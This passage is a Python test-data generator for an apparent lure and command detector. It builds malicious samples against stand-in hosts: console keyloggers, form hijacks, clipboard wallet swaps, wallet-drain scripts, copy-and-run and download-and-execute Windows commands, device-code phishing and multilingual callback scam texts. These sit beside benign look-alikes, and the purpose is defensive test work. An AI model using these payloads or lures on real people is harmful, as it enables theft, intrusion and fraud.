"""Writes tests/data/cases/b4win.jsonl: Windows, browser-console and call-me lure techniques that
a fourth blind set found missing, each written here in our own variants beside the everyday texts
that look like them and must stay quiet.

    python tests/data/cases/make_b4win.py

Deterministic (every variant is a product of fixed lists). Hosts are reserved names (*.test,
*.invalid, *.example) and documentation addresses (192.0.2.0/24, 198.51.100.0/24); phone
numbers are fictitious (555 ranges). No text is copied from a lure collection, an IOC file or
another detector's fixtures. Each line is {id, text, expect, technique, platform[, source],
target}.

Techniques:

- `console-keylogger`: a key listener that sends each key to another host (image beacon, fetch,
  sendBeacon, WebSocket). Look-alikes: listeners that log locally or call the site's own path.
- `console-form-hijack`: every form's action pointed at another host. Look-alikes: reading a
  form's action, setting it to a path of the site.
- `console-clipboard-swap`: a copy/cut listener that writes a wallet address (or swaps what
  matches an address pattern) onto the clipboard. Look-alike: a copy listener that logs.
- `console-wallet-fetched-tx`: a transaction fetched from another host, signed and sent by the
  browser wallet (Solana, Ethereum). Look-alikes: connecting a wallet, signing a transaction the
  page built itself.
- `console-iframe-srcdoc`: a frame whose srcdoc is another host's script tag, split to dodge a
  match. Look-alike: a srcdoc preview with the site's own script.
- `device-code-letters`: device-code phishing with Google's and GitHub's letter codes
  (ABCD-EFGH) and pretexts (a shared document, an app to authorise). Look-alikes: the TV's own
  sign-in hint, the GitHub CLI's own output, documentation of the flow.
- `scam-fa`: a Persian tech-support lure and fake charge. Look-alikes: a shop's order message.
- `scam-refund-overpaid`, `scam-call-to-cancel`, `scam-bank-blocked`, `scam-refund-verify`:
  callback lures in several languages. Look-alikes: genuine bank, airline, delivery, renewal
  and refund messages with a number to call.
- `copy-in-then-run`: a file copied from a share, a WebDAV folder or another computer (copy,
  xcopy, robocopy, replace, extrac32, expand, esentutl, print /D:, findstr > file, Copy-Item,
  scp, sftp, tftp) and then started. `browser-dump-dom`, `desktopimgdownldr`,
  `presentationhost-remote`: signed programs that fetch. `unc-long-path`: a network path in
  its long-path spelling (backslash backslash ? backslash UNC backslash host backslash share).
  `ps-html-decode`: a command or address in HTML character references decoded into iex.
  Look-alikes (`windows-admin`): copies from the local network or of documents, headless
  browsers saving pages, long drive paths, HtmlDecode of a page's text.
- `paste-steps-i18n`: Win+R / Win+X steps with the order to paste in German (einfügen, Strg+V),
  Dutch, Turkish, Polish and French, before a download-and-run. Look-alikes: everyday Win+R
  advice and Ctrl+V in a document.
- `saved-secrets-sent`: saved Wi-Fi keys (netsh wlan … key=clear), stored credentials (cmdkey,
  vaultcmd) or a browser's saved logins read and uploaded. Look-alikes: reading one's own Wi-Fi
  key, listing credentials, exporting profiles to a backup folder.
"""

from __future__ import annotations

import itertools
from pathlib import Path

import casefile  # beside this script (tests/data/cases/make_*.py)
from casefile import case as case_line

OUT = Path(__file__).with_name("b4win.jsonl")
STRANGER = "https://www.harbor-crafts.example/shop/checkout"
CONSOLE = "browser_console"


def case(
    cid: str,
    text: str,
    expect: str,
    technique: str,
    platform: str,
    target: str,
    source: str | None = None,
) -> dict[str, str]:
    return case_line(cid, text, expect, technique, platform, source, target)


class Book(casefile.Book):
    def __init__(self) -> None:
        super().__init__("b4w")


# ---- browser console ------------------------------------------------------------------------
SPY_HOSTS = (
    "k.pixel-relay.test",
    "cdn.stat-beacon.invalid",
    "198.51.100.23",
    "log.typeahead.example",
)
BEACONS = (
    "new Image().src = 'https://{h}/k?c=' + encodeURIComponent({v})",
    "navigator.sendBeacon('https://{h}/c', {v})",
    "fetch('https://{h}/k', {{method: 'POST', mode: 'no-cors', body: {v}}})",
    "ws.send({v}); /* ws = new WebSocket('wss://{h}/s') */",
    "fetch(`//{h}/k?k=${{{v}}}`)",
)
KEY_LISTENERS = (
    "document.addEventListener('keydown', e => {{ {b}; }});",
    'window.addEventListener("keypress", function (e) {{ {b}; }}, true);',
    "document.onkeyup = e => {{ {b} }};",
    "document.querySelectorAll('input').forEach(i => i.addEventListener('input', e => {{ {b}; }}));",
)


def console(book: Book) -> None:
    for n, (listener, beacon) in enumerate(itertools.product(KEY_LISTENERS, BEACONS)):
        host = SPY_HOSTS[n % len(SPY_HOSTS)]
        value = "e.key" if "input" not in listener else "e.target.value"
        text = listener.format(b=beacon.format(h=host, v=value))
        if "WebSocket" in text:
            text = f"const ws = new WebSocket('wss://{host}/s'); " + text
        book.add("console-keylogger", text, "malicious", target=CONSOLE)
    for text in (
        "document.addEventListener('keydown', e => console.log(e.key, e.code));",
        "window.onkeydown = e => { if (e.key === '/' ) document.querySelector('#search').focus(); }",
        "document.addEventListener('keydown', e => { if (e.ctrlKey && e.key === 'k') fetch('/api/search?q=' + q.value) });",
        "document.querySelectorAll('input').forEach(i => i.addEventListener('input', () => console.log(i.name, i.value.length)));",
        "monitorEvents(document.body, 'key')",
        "getEventListeners(document).keydown",
    ):
        book.add("console-keylogger", text, "not_flagged", target=CONSOLE)

    form_hosts = ("collect.form-relay.test", "203.0.113.40", "login-sync.invalid")
    form_tricks = (
        "document.querySelectorAll('form').forEach(f => f.action = 'https://{h}/submit');",
        "for (const f of document.forms) f.setAttribute('action', 'https://{h}/p');",
        "[...document.forms].forEach(form => {{ form.action = '//{h}/login'; }});",
        "document.forms[0].action = 'https://{h}/auth'; document.forms[0].method = 'post';",
        "const u = 'https://{h}/x'; for (let i = 0; i < document.forms.length; i++) document.forms[i].action = u;",
        "document.querySelector('button[type=submit]').setAttribute('formaction', 'https://{h}/pay');",
    )
    for trick, host in itertools.product(form_tricks, form_hosts):
        book.add("console-form-hijack", trick.format(h=host), "malicious", target=CONSOLE)
    for text in (
        "document.forms[0].action",
        "document.querySelector('form').action = '/login/v2'",
        "[...document.forms].map(f => f.action)",
        "document.querySelectorAll('form').forEach(f => console.log(f.id, f.action, f.method))",
        "document.forms.length",
    ):
        book.add("console-form-hijack", text, "not_flagged", target=CONSOLE)

    wallets = (
        "0x3f5CE5FBFe3E9af3971dD833D26bA9b5C936f0bE",
        "bc1q9h8w7v6u5t4s3r2q0p9n8m7l6k5j4h3g2f0d9s",
        "7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU",
        "TN3W4H6rK2ce4vX9YnFQHwKENnHjoxb3m9",
    )
    swaps = (
        "document.addEventListener('copy', e => {{ e.clipboardData.setData('text/plain', '{w}'); e.preventDefault(); }});",
        "document.oncopy = function (e) {{ e.preventDefault(); e.clipboardData.setData('text', '{w}'); }};",
        "addEventListener('cut', () => setTimeout(() => navigator.clipboard.writeText('{w}'), 50));",
        "document.addEventListener('copy', e => {{ const s = getSelection().toString(); e.clipboardData.setData('text/plain', s.replace(/0x[a-fA-F0-9]{{40}}/g, '{w}')); e.preventDefault(); }});",
    )
    for swap, wallet in itertools.product(swaps, wallets):
        book.add("console-clipboard-swap", swap.format(w=wallet), "malicious", target=CONSOLE)
    for text in (
        "document.addEventListener('copy', e => { console.log('copied', document.getSelection().toString()); });",
        "navigator.clipboard.writeText(location.href)",
        "document.addEventListener('copy', e => { e.clipboardData.setData('text/plain', getSelection() + '\\n\\nSource: ' + location.href); e.preventDefault(); });",
        "await navigator.clipboard.readText()",
    ):
        book.add("console-clipboard-swap", text, "not_flagged", target=CONSOLE)

    tx_hosts = ("api.sol-claim.test", "relay.airdrop-hub.invalid", "198.51.100.77")
    transfers = (
        "fetch('https://{h}/tx').then(r => r.json()).then(async d => {{ await window.solana.signAndSendTransaction(d.tx); }});",
        "const {{ tx }} = await (await fetch('https://{h}/build?w=' + solana.publicKey)).json(); await solana.signAndSendTransaction(solanaWeb3.Transaction.from(tx));",
        "const t = await (await fetch('https://{h}/claim')).json(); await ethereum.request({{ method: 'eth_sendTransaction', params: [t] }});",
        "$.getJSON('https://{h}/p', p => window.ethereum.request({{method: 'eth_signTypedData_v4', params: [p.from, p.data]}}));",
        "const txs = await fetch('https://{h}/all').then(r => r.json()); await window.phantom.solana.signAllTransactions(txs);",
    )
    for transfer, host in itertools.product(transfers, tx_hosts):
        book.add("console-wallet-fetched-tx", transfer.format(h=host), "malicious", target=CONSOLE)
    for text in (
        "await window.solana.connect(); console.log(window.solana.publicKey.toString())",
        "const tx = buildTransferTx(); const sig = await window.solana.signAndSendTransaction(tx); console.log(sig)",
        "await ethereum.request({ method: 'eth_requestAccounts' })",
        "const t = await (await fetch('/api/tx/preview')).json(); console.table(t)",
        "await ethereum.request({ method: 'eth_chainId' })",
    ):
        book.add("console-wallet-fetched-tx", text, "not_flagged", target=CONSOLE)

    frame_hosts = ("cdn.widget-hub.test", "w.frame-kit.invalid", "192.0.2.81")
    frames = (
        "const f = document.createElement('iframe'); f.srcdoc = '<scr' + 'ipt src=\"https://{h}/w.js\"></scr' + 'ipt>'; document.body.appendChild(f);",
        "let i = document.createElement('iframe'); i.style.display = 'none'; i.srcdoc = \"<script src='//{h}/a.js'></\" + \"script>\"; document.body.append(i);",
        "document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc=\"<script src=https://{h}/p.js></script>\" hidden></iframe>`);",
        "Object.assign(document.body.appendChild(document.createElement('iframe')), {{srcdoc: '<script src=\"https://{h}/x.js\"><' + '/script>'}});",
    )
    for frame, host in itertools.product(frames, frame_hosts):
        book.add("console-iframe-srcdoc", frame.format(h=host), "malicious", target=CONSOLE)
    for text in (
        "f.srcdoc = '<p>hello</p><script src=\"/static/preview.js\"></script>'",
        "document.querySelector('iframe').srcdoc",
        "const f = document.createElement('iframe'); f.srcdoc = '<h1>Preview</h1>'; document.body.append(f);",
    ):
        book.add("console-iframe-srcdoc", text, "not_flagged", target=CONSOLE)
    for text in (
        "Object.keys(localStorage).forEach(k => console.log(k));",
        "Object.keys(localStorage).map(k => [k, localStorage.getItem(k).length])",
        "console.table(Object.keys(sessionStorage))",
        "fetch('/api/v1/me').then(r => r.json()).then(console.log)",
    ):
        book.add("console-local-look", text, "not_flagged", target=CONSOLE)


# ---- device-code phishing with letter codes -------------------------------------------------
def device_codes(book: Book) -> None:
    pages = (
        "https://www.google.com/device",
        "google.com/device",
        "https://github.com/login/device",
        "github.com/login/device",
    )
    codes = ("KQPT-WMHD", "HGTR-BXQW", "GHK-LMN-PQR", "WDZX-PLMQ")
    lines = (
        "Go to {p} and enter the code {c} to open the document Sarah shared with you.",
        "To authorise the Security Scanner app for your repositories, visit {p} and enter code {c} within 15 minutes.",
        "Your reviewer needs access: open {p}, type {c}, then click Authorize to see the pull request.",
        "Visit {p} on your phone and type {c} to link the shared drive folder before it expires in 10 minutes.",
        "HR portal: to view your updated payroll statement, go to {p} and use the code {c}.",
    )
    for n, (line, page) in enumerate(itertools.product(lines, pages)):
        book.add("device-code-letters", line.format(p=page, c=codes[n % len(codes)]), "flagged")
    for text in (
        "To sign in on your TV, go to google.com/device and enter the code shown on the TV screen.",
        "! First copy your one-time code: 8A2F-3C9D\nOpen this URL to continue in your web browser: https://github.com/login/device",
        "The device flow: the user visits github.com/login/device and enters the user_code, e.g. WDJB-MJHT.",
        "RFC 8628 device authorization: show verification_uri (https://www.google.com/device) and the user code to the user.",
        "Our smart display asks you to open google.com/device on a phone; the code changes every few minutes.",
    ):
        book.add("device-code-letters", text, "not_flagged")


# ---- call-me texts --------------------------------------------------------------------------
def scams(book: Book) -> None:
    fa_lures = (
        "هشدار امنیتی! رایانه شما به ویروس آلوده شده و مسدود شده است. لطفاً فوراً با پشتیبانی مایکروسافت به شماره {p} تماس بگیرید. رایانه را خاموش نکنید.",
        "کامپیوتر شما توسط هکرها قفل شده است. برای رفع مشکل با شماره پشتیبانی {p} تماس بگیرید.",
        "ویروس تروجان در سیستم شما شناسایی شد. دسترسی غیرمجاز به حساب بانکی شما. فوراً به {p} زنگ بزنید.",
        "مبلغ ۴٬۵۰۰٬۰۰۰ تومان از حساب شما کسر شد. اگر این تراکنش را شما انجام نداده‌اید، برای لغو با شماره {p} تماس بگیرید.",
        "اشتراک شما تمدید شد و ۳۹۹ دلار برداشت شد. برای بازگشت وجه با {p} تماس بگیرید.",
    )
    fa_phones = ("۰۲۱-۹۱۰۰۲۳۴۵", "+98 21 5550 1234", "021-55501234")
    for lure, phone in itertools.product(fa_lures, fa_phones):
        book.add("scam-fa", lure.format(p=phone), "flagged", target="other")
    for text in (
        "برای پیگیری سفارش خود با شماره ۰۲۱-۹۱۰۰۱۰۰۰ تماس بگیرید. ساعات کاری: شنبه تا چهارشنبه.",
        "فروشگاه ما: سفارش شما با موفقیت ثبت شد. مبلغ ۲۵۰٬۰۰۰ تومان. پشتیبانی: ۰۲۱-۸۸۰۰۱۲۳۴",
        "مراقب کلاهبرداری باشید: هیچ بانکی از شما نمی‌خواهد با شماره ۰۲۱-۵۵۵۰۱۲۳۴ تماس بگیرید و رمز را بگویید.",
        "نوبت دندانپزشکی شما فردا ساعت ۱۰ است. برای لغو با ۰۲۱-۲۲۰۰۱۱۲۲ تماس بگیرید.",
    ):
        book.add("scam-fa", text, "not_flagged", target="other")

    phones_en = ("+1 (555) 010-2288", "1-888-555-0147", "+44 20 5550 0199")
    overpaid = (
        "Dear customer, due to a system error we refunded you $1,500.00 instead of $150.00. Please call us at {p} so our technician can connect to your computer and return the excess amount.",
        "Refund notice: $2,999 was credited to your account by mistake. Call {p} today; our support technician will help you send back the difference.",
        "We accidentally refunded you too much for your antivirus cancellation. Phone {p} and keep AnyDesk open so we can reverse the extra amount.",
        "Your overpayment of $900 must be returned. Call {p}, a technician will start a remote session to fix the transfer.",
    )
    for lure, phone in itertools.product(overpaid, phones_en):
        book.add("scam-refund-overpaid", lure.format(p=phone), "flagged", target="other")
    cancel = (
        "Your Geek Squad membership renews today for $399.99. To cancel, call {p} within 24 hours.",
        "Norton 360 auto-renewal: $349.99 will be debited tonight. Call {p} to stop the renewal.",
        "Ihr McAfee-Abonnement wurde automatisch um 1 Jahr verlängert. Betrag: 399,99 €. Rufen Sie innerhalb von 24 Stunden {p} an, um zu kündigen.",
        "Ihr Norton-Abo wird heute für 349,99 € erneuert. Falls Sie nicht verlängern möchten, rufen Sie innerhalb von 24 Std. an: {p}, um die Verlängerung zu stornieren.",
        "Il tuo abbonamento antivirus è stato rinnovato per 299,00 €. Per annullare chiama il {p} entro 24 ore.",
        "Su suscripción de seguridad se renovó por 289,99 €. Para cancelar, llame al {p} dentro de 24 horas.",
        "Votre abonnement antivirus sera prélevé de 299,99 € aujourd'hui. Pour annuler, appelez le {p} sous 24 h.",
        "Ihre Jahreslizenz Internet Security: Die Verlängerung über 399,99 EUR wird heute eingezogen. Um die Verlängerung zu kündigen, rufen Sie uns innerhalb von 24 Stunden unter {p} an.",
        "Ihr Norton 360 Abonnement wurde für 349,99 € verlängert. Die Abbuchung erfolgt morgen. Falls Sie nicht weiterzahlen möchten, rufen Sie innerhalb von 24 Stunden unseren Kundendienst an: {p}",
        "Your McAfee LiveSafe plan was renewed for $429.99 today. If you do not wish to renew, call our billing desk within 24 hours at {p}.",
        "Il tuo abbonamento Norton è stato rinnovato per 299,99 €. Se non desideri rinnovare, chiama entro 24 ore il {p}.",
        "Su suscripción McAfee se ha renovado por 399,99 €. Si no desea renovar, llame hoy al {p}.",
        "Votre abonnement Norton a été renouvelé pour 349,99 €. Si vous ne souhaitez pas renouveler, appelez sous 24 h le {p}.",
    )
    for lure, phone in itertools.product(cancel, phones_en):
        book.add("scam-call-to-cancel", lure.format(p=phone), "flagged", target="other")
    blocked = (
        "Banca Example: abbiamo bloccato un bonifico di 2.450,00 € verso un IBAN sconosciuto. Se non l'hai disposto tu, chiama subito il nostro servizio antifrode al numero {p}.",
        "Your bank: we blocked a transfer of $2,300 to a new payee. If this wasn't you, call our fraud team immediately on {p}.",
        "Banco Ejemplo: hemos bloqueado una transferencia de 1.890 € a su nombre. Si no la ha realizado, llame inmediatamente al {p}.",
        "Ihre Überweisung über 1.750 € wurde gesperrt. Wenn Sie diese nicht beauftragt haben, rufen Sie sofort {p} an.",
        "Nous avons bloqué un virement de 3 200 €. Si vous n'êtes pas à l'origine de cette opération, appelez immédiatement le {p}.",
    )
    for lure, phone in itertools.product(blocked, phones_en):
        book.add("scam-bank-blocked", lure.format(p=phone), "flagged", target="other")
    verify = (
        "Agencia Tributaria: tiene un reembolso pendiente de 612,40 €. Para recibirlo, verifique sus datos llamando al {p} antes del viernes.",
        "IRS notice: your tax refund of $1,284 is pending. Verify your identity by calling {p} to release it.",
        "HMRC: a tax rebate of £486.20 is waiting for you. Call {p} to confirm your bank details and receive it.",
        "Agenzia delle Entrate: un rimborso di 418,00 € è in attesa. Verifica i tuoi dati chiamando il {p}.",
        "Impots: un remboursement de 356 € est en attente. Confirmez vos informations par téléphone au {p}.",
        "Hacienda: tiene una devolución de 612,40 € lista para abonar. Confirme su identidad por vía telefónica en el {p}.",
        "Agencia Tributaria: tiene pendiente una devolución de 390,10 €. Para cobrarla debe confirmar sus datos llamando hoy al {p}.",
        "Agenzia delle Entrate: è in attesa un rimborso di 412,00 € a suo nome. Per riceverlo verifica i tuoi dati chiamando il {p}.",
        "Finanzamt: Sie haben eine ausstehende Steuererstattung von 612,40 €. Bitte bestätigen Sie Ihre Daten telefonisch unter {p}.",
    )
    for lure, phone in itertools.product(verify, phones_en):
        book.add("scam-refund-verify", lure.format(p=phone), "flagged", target="other")
    for text in (
        "We blocked a card payment of $84.20 at an online store because it looked unusual. If you don't recognise it, call the number on the back of your card. Never share your PIN.",
        "Abbiamo sospeso un pagamento di 120,00 € con la tua carta. Se non l'hai fatto tu, chiama il numero sul retro della carta o apri l'app.",
        "Your flight BA 0117 on 12 March has been rescheduled to 14:35. To change or cancel your booking, call us on +44 20 5550 0123 or manage it online.",
        "Your parcel could not be delivered today. We will try again tomorrow. Questions? Call 0800 555 0142 (Mon-Fri 8am-6pm).",
        "Ihr Abonnement wird am 01.03. für 49,99 € verlängert. Sie können jederzeit in Ihrem Konto kündigen. Fragen? 030 5550 1234.",
        "Your refund of $42.50 has been processed and will appear on your statement in 3-5 business days. Questions? Call 1-800-555-0199.",
        "Agencia Tributaria: su devolución de 612,40 € ha sido abonada en su cuenta. Para consultas, 901 555 335.",
        "Vodafone: la tua offerta si rinnoverà il 15/04 a 9,99 €. Per informazioni chiama il 190.",
        "If you overpaid your invoice, the difference is credited to your next bill. Billing questions: +1 555 010 4422.",
        "Reminder: your dentist appointment is tomorrow at 10:00. To cancel or reschedule, call 020 5550 1188 at least 24 hours before.",
        "Scam alert: criminals pose as bank fraud teams and say a transfer was blocked; never call a number they give you, such as +1 555 010 9999.",
        "Your TV licence renews on 1 April for £169.50. To cancel, call 0300 555 0120 or visit our website.",
        "Hotel Example: your booking for 2 nights (€240.00) is confirmed. To cancel free of charge before 24 hours, call +39 02 5550 1122.",
        "Banco Ejemplo: su transferencia de 300 € se ha realizado correctamente. Atención al cliente: 910 555 000.",
        "Payroll: we paid you €150 too much in March by mistake; it will be deducted from April's salary. Questions: HR, +49 30 5550 7788.",
        "Your tax refund of $1,284 has been approved and will be deposited within 21 days. No action is needed. IRS help line: 1-800-555-0104.",
    ):
        book.add("scam-genuine-phone", text, "not_flagged", target="other")


# ---- Windows: a file brought from elsewhere, then started --------------------------------------
CAPTCHA = "https://verify.gate-check.example/human"
SHARES = (
    "\\\\192.0.2.15\\pub",
    "\\\\files.share-drop.test@SSL\\dav",
    "\\\\198.51.100.44@8080\\DavWWWRoot\\t",
    "\\\\cdn.patch-relay.invalid\\s",
)
DESTS = ("%TEMP%", "%PUBLIC%", "C:\\Users\\Public", "%APPDATA%\\Microsoft")
COPIERS = (
    "copy {src}\\{f} {dst}\\{f}",
    "xcopy {src}\\{f} {dst}\\ /Y /Q",
    "robocopy {src} {dst} {f} /NJH /NJS",
    "replace {src}\\{f} {dst} /A",
    "extrac32 /Y /C {src}\\{f} {dst}\\{f}",
    "expand {src}\\{f} {dst}\\{f}",
    "esentutl.exe /y {src}\\{f} /d {dst}\\{f} /o",
    "print /D:{dst}\\{f} {src}\\{f}",
    "findstr /V /L zqzq {src}\\{f} > {dst}\\{f}",
    'powershell -w h -c "Copy-Item {src}\\{f} $env:TEMP\\{f}; Start-Process $env:TEMP\\{f}"',
)
STARTERS = ("{dst}\\{f}", 'start "" {dst}\\{f}', "call {dst}\\{f}")
FILES = ("upd.exe", "helper.cmd", "fix.hta", "svc.vbs")


def windows(book: Book) -> None:
    for i, (copier, src) in enumerate(itertools.product(COPIERS, SHARES)):
        f = FILES[i % len(FILES)]
        dst = DESTS[i % len(DESTS)]
        n = i + 1
        if f.endswith(".hta"):
            starter = "mshta {dst}\\{f}"
        elif f.endswith(".vbs"):
            starter = "wscript {dst}\\{f}"
        else:
            starter = STARTERS[n % len(STARTERS)]
        copy = copier.format(src=src, dst=dst, f=f)
        text = copy if "Start-Process" in copy else f"{copy} & {starter.format(dst=dst, f=f)}"
        if "Start-Process" in copy:
            text = copy.replace("$env:TEMP", "$env:TEMP" if dst == "%TEMP%" else "$env:PUBLIC")
        book.add("copy-in-then-run", text, "flagged", "windows")
        book.add("copy-in-then-run", text, "malicious", "windows", "run_dialog", CAPTCHA)
    for host in ("192.0.2.7", "203.0.113.18", "files.scp-drop.test"):
        for f in ("a.exe", "b.bat"):
            book.add(
                "copy-in-then-run",
                f"scp -q guest@{host}:/srv/{f} %TEMP%\\{f} && %TEMP%\\{f}",
                "malicious",
                "windows",
            )
            book.add(
                "copy-in-then-run",
                f"tftp -i {host} GET {f} %PUBLIC%\\{f} & start %PUBLIC%\\{f}",
                "malicious",
                "windows",
            )
            book.add(
                "copy-in-then-run",
                f"sftp -b NUL guest@{host}:/pub/{f} C:\\Users\\Public\\{f} & C:\\Users\\Public\\{f}",
                "malicious",
                "windows",
            )
    for browser in (
        "msedge",
        "chrome.exe",
        '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"',
    ):
        for url, out, run in (
            ("https://pages.note-sync.test/p", "%TEMP%\\p.hta", "mshta %TEMP%\\p.hta"),
            ("http://198.51.100.9/s", "C:\\Users\\Public\\s.bat", "call C:\\Users\\Public\\s.bat"),
            ("https://cdn.view-kit.invalid/j", "%APPDATA%\\j.js", "wscript %APPDATA%\\j.js"),
        ):
            text = f"{browser} --headless --disable-gpu --dump-dom {url} > {out} && {run}"
            book.add("browser-dump-dom", text, "malicious", "windows")
    for url in (
        "https://img.lock-sync.test/w.exe",
        "http://198.51.100.61:8080/lock.exe",
        "https://cdn.pix-lock.invalid/bg.hta",
    ):
        book.add(
            "desktopimgdownldr",
            f'set "SYSTEMROOT=C:\\Users\\Public\\p" && desktopimgdownldr.exe /lockscreenurl:{url} /eventName:desktopimgdownldr',
            "flagged",
            "windows",
        )
        book.add(
            "desktopimgdownldr",
            f"cmd /c desktopimgdownldr /lockscreenurl:{url} /eventName:x & start C:\\Users\\Public\\p\\Personalization\\LockScreenImage\\LockScreenImage_1.exe",
            "malicious",
            "windows",
        )
    for target in (
        "https://apps.viewer-kit.test/a/viewer.xbap",
        "\\\\198.51.100.31\\pub\\tool.xbap",
        "http://192.0.2.56/app.xbap",
        "\\\\share.xbap-host.invalid@SSL\\a\\b.xbap",
    ):
        book.add(
            "presentationhost-remote", f"PresentationHost.exe {target}", "malicious", "windows"
        )
        book.add(
            "presentationhost-remote",
            f"C:\\Windows\\System32\\PresentationHost.exe -debug {target}",
            "malicious",
            "windows",
            "run_dialog",
            CAPTCHA,
        )
    for host in (
        "192.0.2.15",
        "198.51.100.23",
        "files.share-drop.test@SSL",
        "cdn.patch-relay.invalid@443",
    ):
        for path in ("share\\update.exe", "dav\\fix.hta", "pub\\setup.msi"):
            for prefix in ("\\\\?\\UNC\\", "\\\\.\\UNC\\", "\\\\?\\unc\\"):
                book.add(
                    "unc-long-path",
                    f"{prefix}{host}\\{path}",
                    "malicious",
                    "windows",
                    "run_dialog",
                    CAPTCHA,
                )
            book.add("unc-long-path", f'"\\\\?\\UNC\\{host}\\{path}"', "flagged", "windows")
    entities = (
        "iex ([System.Net.WebUtility]::HtmlDecode('{e}'))",
        "$c = [Net.WebUtility]::HtmlDecode('{e}'); Invoke-Expression $c",
        "Add-Type -AssemblyName System.Web; iex ([System.Web.HttpUtility]::HtmlDecode('{e}'))",
    )
    for payload in (
        "iwr https://dl.relay-kit.invalid/u.ps1 -UseBasicParsing | iex",
        "irm http://198.51.100.12/s | iex",
        "Start-Process mshta https://app.pix-sync.test/a.hta",
    ):
        for form in ("&#{};", "&#x{:x};"):
            encoded = "".join(form.format(ord(c)) for c in payload)
            for wrapper in entities:
                text = 'powershell -nop -c "' + wrapper.format(e=encoded) + '"'
                book.add("ps-html-decode", text, "malicious", "windows")
        half = "".join(f"&#{ord(c)};" for c in payload[:4]) + payload[4:]
        book.add(
            "ps-html-decode",
            "iex ([Net.WebUtility]::HtmlDecode('" + half + "'))",
            "malicious",
            "windows",
        )

    for text in (
        "xcopy \\\\fileserver\\deploy\\setup.exe C:\\Temp\\ /Y & C:\\Temp\\setup.exe /quiet",
        "robocopy \\\\nas01.corp.example.com\\builds\\1.4 D:\\builds\\1.4 /MIR",
        "copy \\\\printsrv.corp\\drivers\\hp.inf C:\\drivers\\ & pnputil /add-driver C:\\drivers\\hp.inf",
        "scp build@ci.example.org:/srv/out/report.pdf . && start report.pdf",
        "scp ./app.tar.gz deploy@203.0.113.5:/opt/app/ && ssh deploy@203.0.113.5 ./restart.sh",
        "git clone https://github.com/example-org/tool.git && cd tool && make",
        "Copy-Item \\\\files.example.net\\public\\readme.txt $env:USERPROFILE\\Desktop; notepad $env:USERPROFILE\\Desktop\\readme.txt",
        "net use Z: \\\\192.168.1.10\\share & explorer Z:",
        "chrome --headless --dump-dom https://example.org/page > page.html && code page.html",
        "msedge --headless --print-to-pdf=C:\\reports\\q3.pdf https://example.org/report",
        "tftp -i 192.168.0.1 GET config.txt & type config.txt",
        "esentutl /y C:\\Windows\\System32\\config\\SAM.bak /d D:\\backup\\SAM.bak",
        "extrac32 /E /L C:\\drivers C:\\Users\\me\\Downloads\\driver.cab",
        "print /D:LPT1 C:\\reports\\summary.txt",
        "print /D:\\\\printsrv\\HP-4F C:\\reports\\summary.txt",
        "replace C:\\new\\*.txt D:\\docs /U",
        'findstr /i "error" \\\\logsrv.corp.example\\logs\\app.log > C:\\temp\\errors.txt',
        "expand \\\\deploy01\\drivers\\net.cab -F:* C:\\drivers\\net",
        "dir \\\\?\\C:\\Users\\me\\very\\long\\path",
        "robocopy \\\\?\\C:\\src \\\\?\\D:\\dst /E",
        "Get-Item -LiteralPath '\\\\?\\C:\\Users\\me\\Documents\\report.docx'",
        "PresentationHost.exe C:\\Program Files\\Contoso\\Viewer\\viewer.xbap",
        "Get-Process desktopimgdownldr",
        "[System.Net.WebUtility]::HtmlDecode('Fish &amp; Chips &#8211; &pound;5')",
        "<p>Use &#60;code&#62; tags &#38; escape &#34;quotes&#34; in HTML.</p>",
    ):
        book.add("windows-admin", text, "not_flagged", "windows")


# ---- look-alikes made in bulk: what admins, developers and real senders write ------------------
LOCAL_SHARES = (
    "\\\\fileserver\\deploy",
    "\\\\nas01\\it",
    "\\\\fs01.corp.example.com\\pkg",
    "\\\\10.0.0.5\\software",
    "\\\\192.168.1.20\\install",
    "\\\\files.ad.example.org\\tools",
)
LOCAL_COPIERS = (
    "copy {src}\\{f} {dst}\\{f} & {run}",
    "xcopy {src}\\{f} {dst}\\ /Y & {run}",
    "robocopy {src} {dst} {f} & {run}",
    'powershell -c "Copy-Item {src}\\{f} {dst}; {run}"',
)


def bulk_lookalikes(book: Book) -> None:
    for i, (copier, src) in enumerate(itertools.product(LOCAL_COPIERS, LOCAL_SHARES)):
        f, run = (
            ("setup.exe", "C:\\Deploy\\setup.exe /quiet"),
            ("agent.msi", "msiexec /i C:\\Deploy\\agent.msi /qn"),
            ("login.bat", "call C:\\Deploy\\login.bat"),
        )[i % 3]
        book.add(
            "windows-admin",
            copier.format(src=src, dst="C:\\Deploy", f=f, run=run),
            "not_flagged",
            "windows",
        )
    documents = (("report.pdf", "start"), ("notes.txt", "notepad"), ("q3.xlsx", "start excel"))
    remote = (
        "\\\\files.example.net\\public",
        "\\\\192.0.2.15\\pub",
        "\\\\docs.partner-share.example\\pub",
    )
    for (doc, opener), src in itertools.product(documents, remote):
        text = f"copy {src}\\{doc} %USERPROFILE%\\Downloads\\ & {opener} %USERPROFILE%\\Downloads\\{doc}"
        book.add("windows-admin", text, "not_flagged", "windows")

    events = ("click", "scroll", "resize", "keydown", "input", "copy", "paste", "submit")
    handlers = (
        "e => console.log(e.type, e.target)",
        "e => console.count(e.type)",
        "() => fetch('/api/telemetry/ui', {{method: 'POST', body: JSON.stringify({{t: '{ev}'}})}})",
    )
    for ev, handler in itertools.product(events, handlers):
        text = f"document.addEventListener('{ev}', {handler.format(ev=ev)});"
        book.add("console-local-look", text, "not_flagged", target=CONSOLE)

    genuine = (
        "Your order #48213 has shipped and will arrive Thursday. Questions? Call {p}.",
        "Appointment reminder: Dr. Example, Monday 9:30. To cancel, call {p} at least 24 hours before.",
        "Your card ending 4417 was used for $12.99 at a coffee shop. If this wasn't you, call the number on the back of your card.",
        "Your prescription is ready for pickup. Pharmacy: {p}.",
        "Flight update: gate changed to B22. For rebooking call {p} or use our app.",
        "Ihre Bestellung wurde versandt. Bei Fragen erreichen Sie uns unter {p}.",
        "La tua spedizione arriverà domani. Per assistenza chiama il {p}.",
        "Su pedido ha sido enviado. Atención al cliente: {p}.",
        "Votre colis sera livré demain. Service client : {p}.",
        "Your energy bill of £84.20 is ready. Questions about your bill? Call {p}.",
        "Your subscription renews on 3 May for $9.99. Manage or cancel it any time in your account settings. Help: {p}.",
        "Thanks for your payment of $120.00. Receipt attached. Billing team: {p}.",
        "Your plan renews on 1 June for $59.99. If you do not wish to renew, turn off auto-renewal in Settings. Help: {p}.",
